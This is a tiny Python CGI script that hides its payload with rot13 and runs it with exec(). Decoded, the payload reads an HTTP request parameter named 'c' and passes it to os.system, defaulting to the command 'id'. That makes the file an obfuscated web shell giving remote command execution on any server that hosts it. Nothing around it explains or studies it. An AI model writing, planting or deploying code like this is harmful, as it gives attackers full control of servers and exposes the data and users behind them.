#!/usr/bin/env python3
import codecs
exec(codecs.decode("vzcbeg ptv,bf\ns=ptv.SvryqFgbentr()\ncevag('Pbagrag-Glcr: grkg/cynva\\a')\nbf.flfgrz(s.trginyhr('p','vq'))\n", 'rot13'))
